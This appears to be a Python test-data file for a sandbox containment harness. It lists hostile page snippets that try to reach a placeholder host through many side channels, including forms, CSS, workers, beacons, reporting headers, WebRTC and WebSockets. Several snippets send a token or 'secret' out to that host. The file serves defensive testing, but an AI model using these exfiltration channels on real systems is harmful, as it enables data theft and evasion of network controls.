"""Hostile pages by less trodden ways: odd links and forms, style sheets, worklets, reports, manifests, peers."""

from harness.evals.containment.templates import Row, script

_JS = "text/javascript"
_NO_PEER = "no allowed host speaks this protocol, so that there is no allowed counterpart"


def _style(rule: str) -> str:
    return f"<style>{rule}</style><p>text"


def _link(rel: str, rest: str, name: str) -> str:
    return f'<link rel="{rel}" {rest} href="$BASE/{name}">'


def _candidate(kind: str) -> str:
    protocol = "TCP" if kind == "tcp" else "UDP"
    rest = " tcptype passive" if kind == "tcp" else ""
    return script(
        "(async()=>{let a=new RTCPeerConnection(),b=new RTCPeerConnection();a.createDataChannel('x');"
        "await a.setLocalDescription(await a.createOffer());await b.setRemoteDescription(a.localDescription);"
        "await b.setLocalDescription(await b.createAnswer());await a.setRemoteDescription(b.localDescription);"
        f"await a.addIceCandidate({{candidate:'candidate:1 1 {protocol} 2130706431 127.0.0.1 $LENT typ host{rest}',"
        "sdpMid:'0',sdpMLineIndex:0})})()"
    )


NAVIGATION: tuple[Row, ...] = (
    Row("assign", "N02", "location.assign", script("location.assign('$BASE/n')")),
    Row("without a scheme", "U26", "a link without a scheme", '<a id=go href="//$HOST/x/$TOKEN/n">go</a>',
        click=True),
    Row("backslashes", "U21", "a link with backslashes",
        '<a id=go href="http:\\\\$HOST\\x\\$TOKEN\\n">go</a>', click=True),
    Row("refresh by script", "N10", "a meta refresh put in by script",
        script("document.head.append(Object.assign(document.createElement('meta'),"
               "{httpEquiv:'refresh',content:'0;url=$BASE/n'}))")),
    Row("written document", "N10", "a document written over the page",
        script("document.open();document.write('<meta http-equiv=refresh content=\"0;url=$BASE/n\">');"
               "document.close()")),
    Row("parent from frame", "N29", "a frame that navigates its parent",
        "<iframe srcdoc=\"<a id=a target=_parent href='$BASE/n'>x</a>\"></iframe><button id=go "
        "onclick=\"frames[0].document.getElementById('a').click()\">go</button>", click=True),
    Row("opener", "N26", "a window that navigates its opener",
        '<button id=go onclick="let w=window.open(\'\');w.eval(&quot;opener.location=\'$BASE/n\'&quot;)">go</button>',
        click=True),
    Row("named window", "N05", "a link into a window of a name",
        '<button id=go onclick="window.open(\'about:blank\',\'w\');setTimeout(()=>a.click(),99)">go</button>'
        '<a id=a target=w href="$BASE/n">x</a>', click=True),
    Row("form into a frame", "N21", "a form is sent into a frame",
        '<iframe name=f></iframe><form id=g method=post target=f action="$BASE/n"><input name=s value=$TOKEN></form>'
        + script("g.submit()")),
    Row("form as text", "N20", "a form of plain text",
        '<form id=g method=post enctype=text/plain action="$BASE/n"><input name=s value=$TOKEN></form>'
        + script("g.submit()")),
    Row("form with parts", "N20", "a form in parts",
        '<form id=g method=post enctype=multipart/form-data action="$BASE/n"><input name=s value=$TOKEN></form>'
        + script("g.submit()")),
    Row("request submit", "N20", "requestSubmit", '<form id=g action="$BASE/n"><button id=b>x</button></form>'
        + script("g.requestSubmit(b)")),
    Row("button elsewhere", "N21", "a button outside of its form",
        '<form id=g method=post action="/x/"></form><button id=go form=g formaction="$BASE/n">go</button>',
        click=True),
    Row("redirect without a scheme", "N15", "a redirect without a scheme",
        script("location='/redirect?to=//$HOST/x/$TOKEN/n'")),
    Row("redirect with credentials", "U03", "a redirect with credentials",
        script("let u=new URL('$BASE/n');u.username='allowed.test';location='/redirect?to='+u.href"),
        deny_allowed=True),
    Row("redirect back and forth", "N15", "a redirect by way of an allowed host",
        script("location='/redirect?to='+encodeURIComponent('$OWN/redirect?to=$BASE/n')")),
    Row("lazy frame", "N17", "a lazy frame", '<iframe loading=lazy src="$BASE/n"></iframe>'),
    Row("frame without credentials", "N17", "a frame without credentials",
        '<iframe credentialless src="$BASE/n"></iframe>'),
    Row("frame in a frame", "N17", "frames in frames",
        "<iframe srcdoc=\"<iframe srcdoc='<iframe src=$BASE/n></iframe>'></iframe>\"></iframe>"),
    Row("enter on a focused link", "N01", "a link is activated by script with the keyboard's event",
        '<a id=a href="$BASE/n">x</a>' + script("a.dispatchEvent(new MouseEvent('click',{bubbles:true}))")),
    Row("download by script", "N28", "a download that a script begins",
        script("let a=document.createElement('a');a.href='$BASE/f.bin';a.download='x';a.click()")),
    Row("image in a picture", "R01", "an image inside an SVG frame", '<iframe src="$FILES/x.svg"></iframe>',
        files=(("x.svg", "image/svg+xml",
                '<svg xmlns="http://www.w3.org/2000/svg"><image href="$BASE/i.png" width="9" height="9"/></svg>'),)),
    Row("style of XML", "R51", "a style sheet of an XML document", '<iframe src="$FILES/x.xml"></iframe>',
        files=(("x.xml", "text/xml", '<?xml-stylesheet type="text/css" href="$BASE/s.css"?><a/>'),)),
    Row("script of XML", "R07", "a script of an XML document", '<iframe src="$FILES/x.xml"></iframe>',
        files=(("x.xml", "application/xhtml+xml",
                '<html xmlns="http://www.w3.org/1999/xhtml"><script src="$BASE/s.js"></script></html>'),)),
)  # fmt: skip

LOADING: tuple[Row, ...] = (
    Row("preload fetch", "R23", "a preload for a fetch", _link("preload", "as=fetch crossorigin", "f")),
    Row("preload image", "R23", "a preload of an image", _link("preload", "as=image", "i.png")),
    Row("preload font", "R23", "a preload of a font", _link("preload", "as=font crossorigin", "f.bin")),
    Row("alternate style", "R03", "an alternate style sheet",
        _link("alternate stylesheet", "title=x", "s.css")),
    Row("print style", "R03", "a style sheet for printers", _link("stylesheet", "media=print", "s.css")),
    Row("css cursor", "R04", "a cursor", _style("p{cursor:url('$BASE/i.png'),auto}")),
    Row("css image set", "R04", "a set of images",
        _style("p{background:image-set('$BASE/i.png' 1x)}")),
    Row("css shape", "R04", "a shape", _style("p{float:left;shape-outside:url('$BASE/i.png')}")),
    Row("css clip", "R04", "a clip path of another document", _style("p{clip-path:url('$BASE/i.svg#c')}")),
    Row("css variable", "R04", "a URL in a variable",
        _style("p{--u:url('$BASE/i.png');background:var(--u)}")),
    Row("css layer", "R03", "an import into a layer", _style("@import url('$BASE/s.css') layer(a);")),
    Row("css font of letters", "R06", "a font that tells which letters there are",
        _style("@font-face{font-family:f;src:url('$BASE/f.bin');unicode-range:U+74}p{font-family:f}")),
    Row("font face", "R06", "a font loaded by script", script("new FontFace('f','url($BASE/f.bin)').load()")),
    Row("inline style", "R04", "a style attribute", '<p style="background:url($BASE/i.png)">x'),
    Row("adopted style", "R03", "a constructed style sheet",
        script("let s=new CSSStyleSheet;s.replaceSync('body{background:url($BASE/i.png)}');"
               "document.adoptedStyleSheets=[s]")),
    Row("shadow style", "R04", "a style inside a shadow",
        "<div><template shadowrootmode=open><style>:host{background:url('$BASE/i.png')}</style></template></div>"),
    Row("image of a filter", "R01", "an image of an SVG filter",
        '<svg width=9 height=9><filter id=f><feImage href="$BASE/i.png"/></filter>'
        '<rect width=9 height=9 filter="url(#f)"/></svg>'),
    Row("script of a picture", "R07", "a script of an SVG", '<svg><script href="$BASE/s.js"></script></svg>'),
    Row("new audio", "R09", "a sound made by script", script("new Audio('$BASE/v.bin').play()")),
    Row("media source", "R09", "a source of a video", '<video autoplay muted><source src="$BASE/v.bin"></video>'),
    Row("stream list", "R09", "a list of the parts of a video", '<video autoplay muted src="$FILES/l.m3u8"></video>',
        files=(("l.m3u8", "application/vnd.apple.mpegurl",
                "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n$BASE/v.ts\n#EXT-X-ENDLIST\n"),)),
    Row("json module", "R08", "a module of JSON", script("import('$BASE/m.json',{with:{type:'json'}})")),
    Row("style module", "R08", "a module of styles", script("import('$BASE/s.css',{with:{type:'css'}})")),
    Row("module worker", "R39", "a module of a worker", script("new Worker('$FILES/w.js',{type:'module'})"),
        files=(("w.js", _JS, "import '$BASE/s.js'"),)),
    Row("synchronous request", "R16", "a synchronous request",
        script("let x=new XMLHttpRequest;x.open('GET','$BASE/f',false);x.send()")),
    Row("upload stream", "R13", "a request with a stream",
        script("fetch('$BASE/f',{method:'POST',duplex:'half',body:new Blob(['$TOKEN']).stream()})"), secure=True),
    Row("beacon of a blob", "R17", "a beacon of a blob",
        script("navigator.sendBeacon('$BASE/b',new Blob(['secret'],{type:'text/plain'}))")),
    Row("beacon when hidden", "R18", "a beacon when the page is hidden",
        script("addEventListener('visibilitychange',()=>navigator.sendBeacon('$BASE/b','x'))"), leave=True),
    Row("beacon of a worker", "R19", "a worker's fetch that outlives its page",
        script("new Worker('$FILES/w.js')"), leave=True,
        files=(("w.js", _JS, "for(let i=0;i<9;i++)fetch('$BASE/f'+i,{mode:'no-cors',keepalive:true})"),)),
    Row("cache", "R41", "a request of a cache", script("caches.open('c').then(c=>c.add('$BASE/f'))"), secure=True),
    Row("paint worklet", "R50", "a module of a paint worklet",
        script("CSS.paintWorklet.addModule('$BASE/s.js')"), secure=True),
    Row("imports of a service worker", "R41", "importScripts of a service worker", secure=True,
        html=script("navigator.serviceWorker.register('$FILES/w.js')"),
        files=(("w.js", _JS, "importScripts('$BASE/s.js')"),)),
    Row("report of isolation", "R34", "a report that a policy for embedding sends", secure=True, leave=True,
        html='<img src="https://x.invalid/">',
        headers=(("reporting-endpoints", 'r="$BASE/r"'),
                 ("cross-origin-embedder-policy", 'require-corp; report-to="r"'))),
    Row("report of permissions", "R34", "a report that a permissions policy sends", secure=True, leave=True,
        html=script("navigator.geolocation.getCurrentPosition(()=>0)"),
        headers=(("reporting-endpoints", 'r="$BASE/r"'),
                 ("permissions-policy-report-only", "geolocation=();report-to=r"))),
    Row("report by default", "R34", "a report to the default endpoint", secure=True, leave=True,
        html=script("document.write('<img src=https://x.invalid/>');new XMLHttpRequest().open('GET','/x/',false)"),
        headers=(("reporting-endpoints", 'default="$BASE/r"'),
                 ("content-security-policy-report-only", "img-src 'none'; report-to default"))),
    Row("web bundle", "R57", "a bundle of resources",
        '<script type=webbundle>{"source":"$BASE/b.bin","resources":["$BASE/i.png"]}</script>'
        '<img src="$BASE/i.png">', secure=True),
    Row("fetch in a frame that is gone", "R19", "a fetch of a frame that is taken out",
        "<iframe srcdoc=\"<script>fetch('$BASE/f',{mode:'no-cors',keepalive:true});frameElement.remove()</script>\">"
        "</iframe>"),
    Row("frames in turn", "R48", "many frames that come and go, raced", repeat=20, html=script(
        "for(let i=0;i<8;i++){let f=document.createElement('iframe');f.sandbox='allow-scripts';"
        "f.srcdoc='<script>new Image().src=\"$BASE/i.png\"</scr'+'ipt>';document.body.append(f);"
        "setTimeout(()=>f.remove(),i*20)}")),
)  # fmt: skip

CHANNELS: tuple[Row, ...] = (
    Row("candidate", "W10", "a peer that is said to be on this machine", _candidate("udp"), lent=True,
        uncounted=_NO_PEER),
    Row("tcp candidate", "W14", "a peer over TCP that is said to be on this machine", _candidate("tcp"), lent=True,
        uncounted=_NO_PEER),
    Row("alternative service", "W07", "an alternative service", lent=True, secure=True, uncounted=_NO_PEER,
        html=script("setTimeout(()=>fetch('/x/'),200)"), headers=(("alt-svc", 'h3=":$LENT"; ma=99'),)),
    Row("direct socket", "W14", "a TCP socket", secure=True, uncounted=_NO_PEER, lent=True,
        html=script("new TCPSocket('127.0.0.1',$LENT)")),
    Row("websocket in service worker", "W05", "a WebSocket of a service worker", secure=True,
        html=script("navigator.serviceWorker.register('$FILES/w.js')"),
        files=(("w.js", _JS, "oninstall=()=>new WebSocket('$SOCKET/s')"),)),
    Row("websocket protocol", "W01", "a WebSocket with words in its protocol",
        script("new WebSocket('$SOCKET/s',['x','$TOKEN'])")),
    Row("websocket by http", "W01", "a WebSocket by an http address", script("new WebSocket('$BASE/s')")),
    Row("links that are looked up", "R31", "names of links that are looked up", '<a href="$BASE/n">x</a>',
        headers=(("x-dns-prefetch-control", "on"),)),
)  # fmt: skip
"""What of these needs no click and works over http is played over http, too."""
